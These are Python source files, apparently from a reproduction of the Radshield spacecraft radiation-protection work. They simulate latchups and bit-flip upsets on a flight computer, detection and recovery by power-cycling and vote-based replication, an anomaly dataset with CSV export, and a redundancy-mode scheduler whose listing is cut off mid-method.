        # Upsets striking within this chunk.
        chunk_seus, lane.seu_index = _events_until(
            lane.seu_events, lane.seu_index, elapsed_end
        )
        for seu in chunk_seus:
            self._handle_seu(
                seu, lane.rng, report, lane.eventlog, lane.policy,
                scheduler=lane.scheduler,
            )
        # The chunk end is a checkpoint boundary: the only place a
        # redundancy-mode (or legacy level) change takes effect.
        if lane.scheduler is not None:
            change = lane.scheduler.on_boundary(elapsed_end)
            if change is not None and lane.detector is not None:
                lane.detector.reconfigure(change.to_mode.ild)
        if lane.policy is not None and (
            lane.scheduler is None or lane.policy is not lane.scheduler.policy
        ):
            change = lane.policy.update(elapsed_end)
            if change is not None and lane.detector is not None:
                lane.detector.reconfigure(change.to_level.ild)
        lane.elapsed = elapsed_end

    def _finalize(self, lane: _MissionLane) -> MissionReport:
        report = lane.report
        report.mission_seconds = lane.elapsed
        report.power_cycles = lane.machine.power_cycles
        if lane.supervisor is not None:
            report.recoveries = sum(
                1 for o in lane.supervisor.outcomes if o.recovered
            )
            report.replays_ok = sum(
                1 for o in lane.supervisor.outcomes if o.replay_ok
            )
        if lane.policy is not None:
            report.level_changes = len(lane.policy.changes)
            report.final_level = lane.policy.level.name
        if lane.scheduler is not None:
            report.mode_changes = len(lane.scheduler.changes)
            report.final_mode = lane.scheduler.mode.name
        report.events = lane.eventlog.events()
        return report

    # ------------------------------------------------------------------
    def _make_replay(self, policy):
        """Build the in-flight-work replay the supervisor runs after a
        recovery: the flight workload under EMR on the recovered
        machine, verified against golden outputs. Configuration tracks
        the degradation policy's *current* level at replay time."""
        from ..core.emr.runtime import EmrConfig, EmrRuntime

        cfg = self.config
        workload = self.workload_factory()
        spec = workload.build(np.random.default_rng(cfg.seed + 3))
        golden = workload.reference_outputs(spec)

        def replay(machine) -> bool:
            if policy is not None:
                level = policy.level
                emr_config = EmrConfig(
                    replication_threshold=level.replication_threshold,
                    n_executors=level.n_executors,
                    raise_on_inconclusive=False,
                )
            else:
                emr_config = EmrConfig(
                    replication_threshold=cfg.emr_threshold,
                    raise_on_inconclusive=False,
                )
            result = EmrRuntime(machine, workload, config=emr_config).run(
                spec=spec
            )
            return result.matches(golden)

        return replay

    # ------------------------------------------------------------------
    def _run_telemetry_chunk(
        self, machine, injector, thermal, generator, detector,
        chunk_seconds, chunk_start, chunk_sels, rng, report, eventlog,
        supervisor=None, scheduler=None,
    ) -> None:
        cfg = self.config
        # Latch events at their onset times (current steps local to chunk).
        steps = []
        if injector.any_active:
            steps.append(
                CurrentStep(start=0.0, delta_amps=injector.total_extra_current)
            )
        ocp = OvercurrentProtection(cfg.ocp) if cfg.ocp else None
        max_load = machine.power_model.max_current(machine.n_cores)
        for event in chunk_sels:
            local = event.time - chunk_start
            machine.clock.advance_to(event.time)
            if ocp is not None and ocp.would_trip_on(event.delta_amps, max_load):
                # A classic amp-class SEL: the EPS breaker catches it at
                # the next compute burst, no software needed.
                eventlog.log(
                    "sel.trip", "EPS overcurrent breaker tripped",
                    severity=EvrSeverity.WARNING_HI, time=event.time,
                    delta_amps=round(event.delta_amps, 3), by="psu-ocp",
                )
                if supervisor is not None:
                    outcome = supervisor.handle_alarm(event.time)
                    report.downtime_seconds += outcome.downtime_seconds
                else:
                    # Unsupervised, the scheduler's policy hears the
                    # alarm here (the supervisor feeds it otherwise).
                    if scheduler is not None:
                        scheduler.observe_alarm(event.time)
                    downtime = machine.power_cycle()
                    report.downtime_seconds += downtime
                    eventlog.log(
                        "sel.power_cycle", "breaker power cycle cleared latchup",
                        severity=EvrSeverity.WARNING_HI, time=event.time,
                    )
                report.dataset.add(
                    AnomalyRecord(
                        mission_time_s=event.time,
                        event_type="sel",
                        detail=_sel_detail(event),
                        detected=True,
                        detected_by="psu-ocp",
                        detection_latency_s=cfg.ocp.blanking_seconds,
                        outcome="cleared",
                        action="power_cycle",
                    )
                )
                continue
            injector.induce(event)
            steps.append(CurrentStep(start=local, delta_amps=event.delta_amps))
        trace = generator.generate(
            navigation_schedule(
                chunk_seconds, rng=np.random.default_rng(int(chunk_start) + cfg.seed)
            ),
            rng=rng,
            current_steps=steps,
            start_time=chunk_start,
        )
        detections = detector.process(trace) if detector is not None else []

        if injector.any_active:
            onset = injector.oldest_onset()
            deadline = onset + thermal.time_to_damage(
                max(l.event.delta_amps for l in injector.active)
            )
            alarm_times = [d.time for d in detections if d.time >= onset]
            if alarm_times and alarm_times[0] < deadline:
                detection_time = alarm_times[0]
                machine.clock.advance_to(detection_time)
                eventlog.log(
                    "sel.trip", "ILD residual persisted over threshold",
                    severity=EvrSeverity.WARNING_HI, time=detection_time,
                    latency_s=round(detection_time - onset, 3), by="ild",
                )
                if supervisor is not None:
                    outcome = supervisor.handle_alarm(detection_time)
                    report.downtime_seconds += outcome.downtime_seconds
                else:
                    if scheduler is not None:
                        scheduler.observe_alarm(detection_time)
                    downtime = machine.power_cycle()
                    report.downtime_seconds += downtime
                    if detector is not None:
                        detector.reset()
                    eventlog.log(
                        "sel.power_cycle", "commanded power cycle cleared latchup",
                        severity=EvrSeverity.WARNING_HI, time=detection_time,
                    )
                for event in list(injector.history):
                    if event.time <= detection_time and not any(
                        r.detail == _sel_detail(event) for r in report.dataset
                    ):
                        report.dataset.add(
                            AnomalyRecord(
                                mission_time_s=event.time,
                                event_type="sel",
                                detail=_sel_detail(event),
                                detected=True,
                                detected_by="ild",
                                detection_latency_s=detection_time - event.time,
                                outcome="cleared",
                                action="power_cycle",
                            )
                        )
            elif chunk_start + chunk_seconds > deadline:
                # No alarm before the thermal deadline: the chip cooks.
                machine.clock.advance_to(deadline)
                thermal.check()
                report.survived = False
                eventlog.log(
                    "thermal.damage",
                    "latchup undetected past thermal deadline; mission lost",
                    severity=EvrSeverity.FATAL, time=deadline,
                )
                for event in injector.history:
                    if not any(r.detail == _sel_detail(event) for r in report.dataset):
                        report.dataset.add(
                            AnomalyRecord(
                                mission_time_s=event.time,
                                event_type="sel",
                                detail=_sel_detail(event),
                                detected=False,
                                detected_by="",
                                detection_latency_s=-1.0,
                                outcome="damage",
                                action="lost",
                            )
                        )
                return
        machine.clock.advance_to(chunk_start + chunk_seconds)

    # ------------------------------------------------------------------
    def _handle_seu(self, seu: SeuEvent, rng, report: MissionReport, eventlog,
                    policy=None, scheduler=None) -> None:
        """Evaluate one upset by running the flight workload with that
        strike injected, under the mission's protection scheme."""
        cfg = self.config
        workload = self.workload_factory()
        threshold = cfg.emr_threshold
        n_executors = 3
        scheme = "emr" if cfg.emr_enabled else "none"
        if scheduler is not None:
            # The granted HMR mode sets scheme and EMR strength for
            # every upset landing in this chunk. ``independent`` mode
            # runs unreplicated (scheme "none"; the executor count is
            # then unused, but the campaign still validates it).
            mode = scheduler.mode
            threshold = mode.replication_threshold
            n_executors = max(2, mode.replicas)
            scheme = mode.scheme if cfg.emr_enabled else "none"
        elif policy is not None:
            # The degradation policy's current level sets EMR strength.
            threshold = policy.level.replication_threshold
            n_executors = policy.level.n_executors
        campaign = FaultInjectionCampaign(
            workload,
            CampaignConfig(
                runs_per_scheme=1,
                bits=seu.bits,
                replication_threshold=threshold,
                n_executors=n_executors,
                weights={seu.target: 1.0},
            ),
            seed=int(seu.time) % (2**31),
        )
        outcome = campaign.run(schemes=(scheme,))[scheme]
        report.workload_runs += 1
        outcome_class = next(iter(outcome))
        detected_by = ""
        action = "none"
        from ..radiation.events import OutcomeClass

        if outcome_class is OutcomeClass.CORRECTED:
            detected_by = "emr-vote"
            action = "outvoted"
        elif outcome_class is OutcomeClass.ERROR:
            detected_by = "emr-vote" if cfg.emr_enabled else "crash"
            action = "reboot"
        elif outcome_class is OutcomeClass.SDC:
            report.silent_corruptions += 1
        if outcome_class in (OutcomeClass.CORRECTED, OutcomeClass.ERROR):
            if scheduler is not None:
                scheduler.observe_fault(seu.time)
            if policy is not None and (
                scheduler is None or policy is not scheduler.policy
            ):
                policy.observe_fault(seu.time)
        severity = {
            OutcomeClass.NO_EFFECT: EvrSeverity.DIAGNOSTIC,
            OutcomeClass.CORRECTED: EvrSeverity.WARNING_LO,
            OutcomeClass.ERROR: EvrSeverity.WARNING_HI,
            OutcomeClass.SDC: EvrSeverity.WARNING_HI,
        }[outcome_class]
        eventlog.log(
            "emr.verdict",
            f"seu on {seu.target.value}: {outcome_class.value}",
            severity=severity, time=seu.time,
            scheme=scheme, action=action,
        )
        report.dataset.add(
            AnomalyRecord(
                mission_time_s=seu.time,
                event_type="seu",
                detail=f"{seu.target.value}{'/mbu' if seu.is_mbu else ''}",
                detected=outcome_class.value in ("corrected", "error"),
                detected_by=detected_by,
                detection_latency_s=0.0 if detected_by else -1.0,
                outcome=outcome_class.value,
                action=action,
            )
        )


def _sel_detail(event: SelEvent) -> str:
    return f"+{event.delta_amps:.3f}A@t{event.time:.0f}"
