"""End-to-end mission simulation: Radshield flying a whole mission.

Ties every layer together the way the two deployments of §5 do: a
radiation environment streams SEL and SEU events at a commodity
computer running a bursty flight workload; ILD watches telemetry and
power-cycles on latchups; EMR replicates and votes the compute. The
output is an :class:`~repro.missions.dataset.AnomalyDataset` — the
paper's planned public data product — plus mission survival stats.

Disable either component (``ild_enabled`` / ``emr_enabled``) to rerun
the same event stream unprotected and measure what Radshield bought.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..core.ild import train_ild
from ..errors import ConfigurationError
from ..flightsw.eventlog import EventLog, EvrSeverity
from ..radiation.environment import MARS_SURFACE, RadiationEnvironment
from ..radiation.events import SelEvent, SeuEvent
from ..radiation.injector import CampaignConfig, FaultInjectionCampaign
from ..radiation.sel import LatchupInjector
from ..radiation.thermal import ThermalModel
from ..recovery import (
    DegradationPolicy,
    PolicyConfig,
    RecoverySupervisor,
    SupervisorConfig,
)
from ..sim.machine import Machine
from ..sim.psu import OcpConfig, OvercurrentProtection
from ..sim.telemetry import CurrentStep, TelemetryConfig, TraceGenerator
from ..workloads.aes import AesWorkload
from ..workloads.navigation import navigation_schedule
from .dataset import AnomalyDataset, AnomalyRecord


@dataclass(frozen=True)
class MissionConfig:
    """Scale and protection knobs for one simulated mission."""

    duration_days: float = 1.0
    environment: RadiationEnvironment = MARS_SURFACE
    chunk_seconds: float = 900.0
    tick: float = 8e-3
    ild_enabled: bool = True
    emr_enabled: bool = True
    emr_threshold: float = 0.2
    #: PSU overcurrent breaker: present on most spacecraft EPS (§3.1),
    #: it clears classic amp-class SELs regardless of ILD.
    ocp: "OcpConfig | None" = OcpConfig()
    #: Route every SEL alarm through a :class:`RecoverySupervisor`
    #: (checkpoint → power cycle with retry → rollback → replay) and
    #: run the degradation policy. Off by default: the unsupervised
    #: path is the paper's bare trip-and-power-cycle response.
    supervised: bool = False
    supervisor: "SupervisorConfig | None" = None
    policy: "PolicyConfig | None" = None
    seed: int = 0

    def __post_init__(self) -> None:
        if self.duration_days <= 0 or self.chunk_seconds <= 0:
            raise ConfigurationError("duration and chunk must be positive")


@dataclass
class MissionReport:
    """What came back from the mission."""

    config: MissionConfig
    dataset: AnomalyDataset = field(default_factory=AnomalyDataset)
    survived: bool = True
    mission_seconds: float = 0.0
    downtime_seconds: float = 0.0
    power_cycles: int = 0
    workload_runs: int = 0
    silent_corruptions: int = 0
    #: Supervised recoveries completed (alarm → ... → replay).
    recoveries: int = 0
    #: Replays of in-flight work that verified against golden outputs.
    replays_ok: int = 0
    #: Degradation-policy level changes during the mission.
    level_changes: int = 0
    #: Protection level at end of mission ("" when unsupervised).
    final_level: str = ""
    #: Flight event log (EVRs) of the mission's protection actions.
    events: "tuple" = ()

    @property
    def availability(self) -> float:
        if self.mission_seconds <= 0:
            return 0.0
        return 1.0 - self.downtime_seconds / self.mission_seconds

    def summary(self) -> str:
        protection = []
        if self.config.ild_enabled:
            protection.append("ILD")
        if self.config.emr_enabled:
            protection.append("EMR")
        lines = [
            f"mission in {self.config.environment.name}, "
            f"{self.config.duration_days:g} day(s), "
            f"protection: {'+'.join(protection) or 'none'}",
            f"survived: {self.survived}; availability "
            f"{self.availability * 100:.2f}%; power cycles {self.power_cycles}",
            f"workload runs {self.workload_runs}; "
            f"silent corruptions {self.silent_corruptions}",
            f"flight events (EVRs): {len(self.events)}",
        ]
        if self.config.supervised:
            lines.append(
                f"supervised recoveries {self.recoveries} "
                f"(replays ok {self.replays_ok}); level changes "
                f"{self.level_changes}; final level {self.final_level}"
            )
        lines.append(self.dataset.summary())
        return "\n".join(lines)


class MissionSimulator:
    """Runs one mission timeline."""

    def __init__(self, config: "MissionConfig | None" = None,
                 workload_factory=lambda: AesWorkload(chunk_bytes=64, chunks=10)):
        self.config = config or MissionConfig()
        self.workload_factory = workload_factory

    # ------------------------------------------------------------------
    def run(self) -> MissionReport:
        cfg = self.config
        rng = np.random.default_rng(cfg.seed)
        report = MissionReport(config=cfg)
        duration = cfg.duration_days * 86400.0

        machine = Machine.rpi_zero2w(seed=cfg.seed)
        # Local to this run (not instance state): one simulator can be
        # reused or run concurrently without cross-run EVR leakage.
        eventlog = EventLog(capacity=4096)
        injector = LatchupInjector(machine)
        thermal = ThermalModel(machine, injector)
        generator = TraceGenerator(TelemetryConfig(tick=cfg.tick))

        # Sample the event streams first, from the mission seed alone,
        # so protected and unprotected reruns face identical skies.
        sel_events = cfg.environment.sample_sel_events(duration, rng)
        seu_events = cfg.environment.sample_seu_events(duration, rng)

        detector = None
        if cfg.ild_enabled:
            ground_rng = np.random.default_rng(cfg.seed + 2)
            ground = generator.generate(
                navigation_schedule(1200.0, rng=np.random.default_rng(cfg.seed + 1)),
                rng=ground_rng,
            )
            detector = train_ild(
                ground, max_instruction_rate=generator.max_instruction_rate
            )
        supervisor = None
        policy = None
        if cfg.supervised:
            policy = DegradationPolicy(
                cfg.policy or PolicyConfig(), eventlog=eventlog
            )
            supervisor = RecoverySupervisor(
                machine,
                detector=detector,
                eventlog=eventlog,
                config=cfg.supervisor or SupervisorConfig(),
                policy=policy,
            )
            supervisor.register_inflight(
                "flight-workload", self._make_replay(policy)
            )

        pending_sels = list(sel_events)
        pending_seus = list(seu_events)

        elapsed = 0.0
        while elapsed < duration and report.survived:
            chunk = min(cfg.chunk_seconds, duration - elapsed)
            elapsed_end = elapsed + chunk
            if supervisor is not None:
                # The chunk's known-good state: rollback target for any
                # alarm raised while this chunk's work is in flight.
                supervisor.checkpoint()
            # Latchups striking within this chunk.
            chunk_sels = [e for e in pending_sels if elapsed <= e.time < elapsed_end]
            pending_sels = [e for e in pending_sels if e.time >= elapsed_end]
            self._run_telemetry_chunk(
                machine, injector, thermal, generator, detector,
                chunk, elapsed, chunk_sels, rng, report, eventlog,
                supervisor=supervisor,
            )
            if not report.survived:
                break
            # Upsets striking within this chunk.
            chunk_seus = [e for e in pending_seus if elapsed <= e.time < elapsed_end]
            pending_seus = [e for e in pending_seus if e.time >= elapsed_end]
            for seu in chunk_seus:
                self._handle_seu(seu, rng, report, eventlog, policy)
            if policy is not None:
                change = policy.update(elapsed_end)
                if change is not None and detector is not None:
                    detector.reconfigure(change.to_level.ild)
            elapsed = elapsed_end
        report.mission_seconds = elapsed
        report.power_cycles = machine.power_cycles
        if supervisor is not None:
            report.recoveries = sum(
                1 for o in supervisor.outcomes if o.recovered
            )
            report.replays_ok = sum(
                1 for o in supervisor.outcomes if o.replay_ok
            )
        if policy is not None:
            report.level_changes = len(policy.changes)
            report.final_level = policy.level.name
        report.events = eventlog.events()
        return report

    # ------------------------------------------------------------------
    def _make_replay(self, policy):
        """Build the in-flight-work replay the supervisor runs after a
        recovery: the flight workload under EMR on the recovered
        machine, verified against golden outputs. Configuration tracks
        the degradation policy's *current* level at replay time."""
        from ..core.emr.runtime import EmrConfig, EmrRuntime

        cfg = self.config
        workload = self.workload_factory()
        spec = workload.build(np.random.default_rng(cfg.seed + 3))
        golden = workload.reference_outputs(spec)

        def replay(machine) -> bool:
            if policy is not None:
                level = policy.level
                emr_config = EmrConfig(
                    replication_threshold=level.replication_threshold,
                    n_executors=level.n_executors,
                    raise_on_inconclusive=False,
                )
            else:
                emr_config = EmrConfig(
                    replication_threshold=cfg.emr_threshold,
                    raise_on_inconclusive=False,
                )
            result = EmrRuntime(machine, workload, config=emr_config).run(
                spec=spec
            )
            return result.matches(golden)

        return replay

    # ------------------------------------------------------------------
    def _run_telemetry_chunk(
        self, machine, injector, thermal, generator, detector,
        chunk_seconds, chunk_start, chunk_sels, rng, report, eventlog,
        supervisor=None,
    ) -> None:
        cfg = self.config
        # Latch events at their onset times (current steps local to chunk).
        steps = []
        if injector.any_active:
            steps.append(
                CurrentStep(start=0.0, delta_amps=injector.total_extra_current)
            )
        ocp = OvercurrentProtection(cfg.ocp) if cfg.ocp else None
        max_load = machine.power_model.max_current(machine.n_cores)
        for event in chunk_sels:
            local = event.time - chunk_start
            machine.clock.advance_to(event.time)
            if ocp is not None and ocp.would_trip_on(event.delta_amps, max_load):
                # A classic amp-class SEL: the EPS breaker catches it at
                # the next compute burst, no software needed.
                eventlog.log(
                    "sel.trip", "EPS overcurrent breaker tripped",
                    severity=EvrSeverity.WARNING_HI, time=event.time,
                    delta_amps=round(event.delta_amps, 3), by="psu-ocp",
                )
                if supervisor is not None:
                    outcome = supervisor.handle_alarm(event.time)
                    report.downtime_seconds += outcome.downtime_seconds
                else:
                    downtime = machine.power_cycle()
                    report.downtime_seconds += downtime
                    eventlog.log(
                        "sel.power_cycle", "breaker power cycle cleared latchup",
                        severity=EvrSeverity.WARNING_HI, time=event.time,
                    )
                report.dataset.add(
                    AnomalyRecord(
                        mission_time_s=event.time,
                        event_type="sel",
                        detail=_sel_detail(event),
                        detected=True,
                        detected_by="psu-ocp",
                        detection_latency_s=cfg.ocp.blanking_seconds,
                        outcome="cleared",
                        action="power_cycle",
                    )
                )
                continue
            injector.induce(event)
            steps.append(CurrentStep(start=local, delta_amps=event.delta_amps))
        trace = generator.generate(
            navigation_schedule(
                chunk_seconds, rng=np.random.default_rng(int(chunk_start) + cfg.seed)
            ),
            rng=rng,
            current_steps=steps,
            start_time=chunk_start,
        )
        detections = detector.process(trace) if detector is not None else []

        if injector.any_active:
            onset = injector.oldest_onset()
            deadline = onset + thermal.time_to_damage(
                max(l.event.delta_amps for l in injector.active)
            )
            alarm_times = [d.time for d in detections if d.time >= onset]
            if alarm_times and alarm_times[0] < deadline:
                detection_time = alarm_times[0]
                machine.clock.advance_to(detection_time)
                eventlog.log(
                    "sel.trip", "ILD residual persisted over threshold",
                    severity=EvrSeverity.WARNING_HI, time=detection_time,
                    latency_s=round(detection_time - onset, 3), by="ild",
                )
                if supervisor is not None:
                    outcome = supervisor.handle_alarm(detection_time)
                    report.downtime_seconds += outcome.downtime_seconds
                else:
                    downtime = machine.power_cycle()
                    report.downtime_seconds += downtime
                    if detector is not None:
                        detector.reset()
                    eventlog.log(
                        "sel.power_cycle", "commanded power cycle cleared latchup",
                        severity=EvrSeverity.WARNING_HI, time=detection_time,
                    )
                for event in list(injector.history):
                    if event.time <= detection_time and not any(
                        r.detail == _sel_detail(event) for r in report.dataset
                    ):
                        report.dataset.add(
                            AnomalyRecord(
                                mission_time_s=event.time,
                                event_type="sel",
                                detail=_sel_detail(event),
                                detected=True,
                                detected_by="ild",
                                detection_latency_s=detection_time - event.time,
                                outcome="cleared",
                                action="power_cycle",
                            )
                        )
            elif chunk_start + chunk_seconds > deadline:
                # No alarm before the thermal deadline: the chip cooks.
                machine.clock.advance_to(deadline)
                thermal.check()
                report.survived = False
                eventlog.log(
                    "thermal.damage",
                    "latchup undetected past thermal deadline; mission lost",
                    severity=EvrSeverity.FATAL, time=deadline,
                )
                for event in injector.history:
                    if not any(r.detail == _sel_detail(event) for r in report.dataset):
                        report.dataset.add(
                            AnomalyRecord(
                                mission_time_s=event.time,
                                event_type="sel",
                                detail=_sel_detail(event),
                                detected=False,
                                detected_by="",
                                detection_latency_s=-1.0,
                                outcome="damage",
                                action="lost",
                            )
                        )
                return
        machine.clock.advance_to(chunk_start + chunk_seconds)

    # ------------------------------------------------------------------
    def _handle_seu(self, seu: SeuEvent, rng, report: MissionReport, eventlog,
                    policy=None) -> None:
        """Evaluate one upset by running the flight workload with that
        strike injected, under the mission's protection scheme."""
        cfg = self.config
        workload = self.workload_factory()
        threshold = cfg.emr_threshold
        n_executors = 3
        if policy is not None:
            # The degradation policy's current level sets EMR strength.
            threshold = policy.level.replication_threshold
            n_executors = policy.level.n_executors
        campaign = FaultInjectionCampaign(
            workload,
            CampaignConfig(
                runs_per_scheme=1,
                bits=seu.bits,
                replication_threshold=threshold,
                n_executors=n_executors,
                weights={seu.target: 1.0},
            ),
            seed=int(seu.time) % (2**31),
        )
        scheme = "emr" if cfg.emr_enabled else "none"
        outcome = campaign.run(schemes=(scheme,))[scheme]
        report.workload_runs += 1
        outcome_class = next(iter(outcome))
        detected_by = ""
        action = "none"
        from ..radiation.events import OutcomeClass

        if outcome_class is OutcomeClass.CORRECTED:
            detected_by = "emr-vote"
            action = "outvoted"
        elif outcome_class is OutcomeClass.ERROR:
            detected_by = "emr-vote" if cfg.emr_enabled else "crash"
            action = "reboot"
        elif outcome_class is OutcomeClass.SDC:
            report.silent_corruptions += 1
        if policy is not None and outcome_class in (
            OutcomeClass.CORRECTED, OutcomeClass.ERROR
        ):
            policy.observe_fault(seu.time)
        severity = {
            OutcomeClass.NO_EFFECT: EvrSeverity.DIAGNOSTIC,
            OutcomeClass.CORRECTED: EvrSeverity.WARNING_LO,
            OutcomeClass.ERROR: EvrSeverity.WARNING_HI,
            OutcomeClass.SDC: EvrSeverity.WARNING_HI,
        }[outcome_class]
        eventlog.log(
            "emr.verdict",
            f"seu on {seu.target.value}: {outcome_class.value}",
            severity=severity, time=seu.time,
            scheme=scheme, action=action,
        )
        report.dataset.add(
            AnomalyRecord(
                mission_time_s=seu.time,
                event_type="seu",
                detail=f"{seu.target.value}{'/mbu' if seu.is_mbu else ''}",
                detected=outcome_class.value in ("corrected", "error"),
                detected_by=detected_by,
                detection_latency_s=0.0 if detected_by else -1.0,
                outcome=outcome_class.value,
                action=action,
            )
        )


def _sel_detail(event: SelEvent) -> str:
    return f"+{event.delta_amps:.3f}A@t{event.time:.0f}"
