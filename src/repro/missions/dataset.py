"""The anomaly dataset (§5, "Data collection efforts").

"This work marks the start of a multi-year data collection effort. We
aim to provide the academic community with a public dataset of these
errors, along with traces and descriptions of the effects of each
error on the mission."

Each :class:`AnomalyRecord` is one radiation event as a mission log
would capture it: when and what struck, what the fault did, whether
and how Radshield caught it, and what action the spacecraft took.
Records serialize to/from CSV so campaigns can be archived and merged.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from dataclasses import asdict, dataclass, fields

from ..errors import ConfigurationError

#: Allowed values for the categorical columns.
EVENT_TYPES = ("seu", "sel")
ACTIONS = ("none", "power_cycle", "reboot", "outvoted", "ecc_corrected", "lost")


@dataclass(frozen=True)
class AnomalyRecord:
    """One radiation event and its disposition."""

    mission_time_s: float
    event_type: str  # "seu" | "sel"
    detail: str  # target component / delta amps
    detected: bool
    detected_by: str  # "ild", "emr-vote", "ecc", "checksum", ""
    detection_latency_s: float  # -1 when undetected
    outcome: str  # OutcomeClass value or "cleared" / "damage"
    action: str  # one of ACTIONS

    def __post_init__(self) -> None:
        if self.event_type not in EVENT_TYPES:
            raise ConfigurationError(f"bad event_type {self.event_type!r}")
        if self.action not in ACTIONS:
            raise ConfigurationError(f"bad action {self.action!r}")
        if self.mission_time_s < 0:
            raise ConfigurationError("mission_time_s must be >= 0")


_COLUMNS = tuple(f.name for f in fields(AnomalyRecord))


class AnomalyDataset:
    """An append-only log of anomaly records with CSV round-tripping."""

    def __init__(self, records: "list[AnomalyRecord] | None" = None) -> None:
        self.records: "list[AnomalyRecord]" = list(records or [])

    def add(self, record: AnomalyRecord) -> None:
        self.records.append(record)

    def __len__(self) -> int:
        return len(self.records)

    def __iter__(self):
        return iter(self.records)

    # ------------------------------------------------------------------
    # Serialization
    # ------------------------------------------------------------------
    def to_csv(self) -> str:
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=_COLUMNS)
        writer.writeheader()
        for record in self.records:
            writer.writerow(asdict(record))
        return out.getvalue()

    @classmethod
    def from_csv(cls, text: str) -> "AnomalyDataset":
        reader = csv.DictReader(io.StringIO(text))
        records = []
        for row in reader:
            records.append(
                AnomalyRecord(
                    mission_time_s=float(row["mission_time_s"]),
                    event_type=row["event_type"],
                    detail=row["detail"],
                    detected=row["detected"] == "True",
                    detected_by=row["detected_by"],
                    detection_latency_s=float(row["detection_latency_s"]),
                    outcome=row["outcome"],
                    action=row["action"],
                )
            )
        return cls(records)

    # ------------------------------------------------------------------
    # Analysis
    # ------------------------------------------------------------------
    def by_type(self, event_type: str) -> "list[AnomalyRecord]":
        return [r for r in self.records if r.event_type == event_type]

    def detection_rate(self, event_type: "str | None" = None) -> float:
        records = self.by_type(event_type) if event_type else self.records
        if not records:
            return 0.0
        return sum(r.detected for r in records) / len(records)

    def outcome_counts(self) -> Counter:
        return Counter(r.outcome for r in self.records)

    def action_counts(self) -> Counter:
        return Counter(r.action for r in self.records)

    def summary(self) -> str:
        seus = self.by_type("seu")
        sels = self.by_type("sel")
        lines = [
            f"{len(self.records)} anomalies: {len(seus)} SEUs, {len(sels)} SELs",
            f"SEU detection rate: {self.detection_rate('seu') * 100:.0f}%",
            f"SEL detection rate: {self.detection_rate('sel') * 100:.0f}%",
        ]
        for outcome, count in sorted(self.outcome_counts().items()):
            lines.append(f"  outcome {outcome}: {count}")
        return "\n".join(lines)
