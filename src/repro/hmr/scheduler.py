"""The HMR scheduler: mode switches at checkpoint/jobset boundaries.

Per-phase mode *requests* come from the workload (an imaging burst
wants ``independent`` throughput, a navigation solve wants the vote);
the adaptive *floor* comes from a
:class:`~repro.recovery.policy.DegradationPolicy` walking the mode
lattice on the stack's own signals; the *ceiling* is the power budget.
``on_boundary`` reconciles the three — grant the strongest of request
and floor, stepped down to the costliest affordable mode — and only
ever at a boundary, because a mode switch mid-jobset would tear the
replica bookkeeping.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.emr.scheduler import ModeSegment
from ..errors import ConfigurationError
from ..flightsw.eventlog import EvrSeverity
from ..obs import NULL_OBS
from ..recovery.policy import DegradationPolicy, PolicyConfig
from .modes import MODES, EMR_VOTED, RedundancyMode, mode_named

__all__ = [
    "HMRScheduler",
    "ModeChange",
    "WorkloadPhase",
    "mode_segment",
]


@dataclass(frozen=True)
class WorkloadPhase:
    """A named slice of the workload and the mode it asks for."""

    name: str
    #: Share of the datasets this phase covers (normalized over the
    #: schedule, so fractions need not sum to exactly 1).
    fraction: float
    mode: RedundancyMode

    def __post_init__(self) -> None:
        if self.fraction <= 0:
            raise ConfigurationError(
                f"phase {self.name!r} needs a positive fraction"
            )


@dataclass(frozen=True)
class ModeChange:
    """One granted mode switch, as reported to callers and the log."""

    time: float
    from_mode: RedundancyMode
    to_mode: RedundancyMode
    reason: str


def mode_segment(mode: RedundancyMode, datasets: int,
                 name: "str | None" = None) -> ModeSegment:
    """One :class:`ModeSegment` covering ``datasets`` under ``mode``."""
    return ModeSegment(
        datasets=datasets,
        n_executors=mode.n_executors,
        replicas=mode.replicas,
        replication_threshold=mode.replication_threshold,
        name=name if name is not None else mode.name,
        freq_level=mode.freq_level,
    )


def _apportion(fractions: "list[float]", total: int) -> "list[int]":
    """Largest-remainder split of ``total`` items by weight —
    deterministic, order-stable, sums exactly to ``total``."""
    weight = sum(fractions)
    quotas = [total * f / weight for f in fractions]
    counts = [int(q) for q in quotas]
    shortfall = total - sum(counts)
    remainders = sorted(
        range(len(quotas)),
        key=lambda i: (-(quotas[i] - counts[i]), i),
    )
    for i in remainders[:shortfall]:
        counts[i] += 1
    return counts


class HMRScheduler:
    """Grants redundancy modes at checkpoint/jobset boundaries.

    Three inputs meet here:

    * :meth:`request` — the workload phase's desired mode;
    * an optional :class:`DegradationPolicy` over the mode lattice,
      whose current level is an adaptive floor (alarms raise it);
    * an optional power budget, a hard ceiling.

    :meth:`on_boundary` is the only place a mode actually changes; the
    mission simulator calls it once per checkpointed telemetry chunk
    and the EMR runtime consumes the result as a mode schedule.
    """

    def __init__(
        self,
        phases: "tuple[WorkloadPhase, ...] | None" = None,
        start_mode: "RedundancyMode | str" = EMR_VOTED,
        policy: "DegradationPolicy | PolicyConfig | None" = None,
        power_budget_amps: "float | None" = None,
        eventlog=None,
        obs=None,
    ) -> None:
        if isinstance(start_mode, str):
            start_mode = mode_named(start_mode)
        self.phases = tuple(phases or ())
        if isinstance(policy, PolicyConfig):
            policy = DegradationPolicy(policy, lattice=MODES)
        self.policy = policy
        if policy is not None and policy.level not in MODES:
            raise ConfigurationError(
                "the scheduler's policy must walk the MODES lattice "
                "(pass lattice=repro.hmr.MODES)"
            )
        self.power_budget_amps = power_budget_amps
        self.eventlog = eventlog
        self.obs = obs if obs is not None else NULL_OBS
        self._mode = self._cap(start_mode)
        if self._mode is not start_mode:
            raise ConfigurationError(
                f"start mode {start_mode.name!r} exceeds the power budget "
                f"of {power_budget_amps} A"
            )
        self._requested = start_mode
        self.changes: "list[ModeChange]" = []

    # ------------------------------------------------------------------
    @property
    def mode(self) -> RedundancyMode:
        """The currently granted mode."""
        return self._mode

    def request(self, mode: "RedundancyMode | str") -> None:
        """Set the workload phase's desired mode; granted (subject to
        the policy floor and the budget) at the next boundary."""
        self._requested = (
            mode_named(mode) if isinstance(mode, str) else mode
        )

    def observe_alarm(self, time: float) -> None:
        if self.policy is not None:
            self.policy.observe_alarm(time)

    def observe_fault(self, time: float) -> None:
        if self.policy is not None:
            self.policy.observe_fault(time)

    def _cap(self, mode: RedundancyMode) -> RedundancyMode:
        """Step down to the costliest affordable mode."""
        budget = self.power_budget_amps
        if budget is None:
            return mode
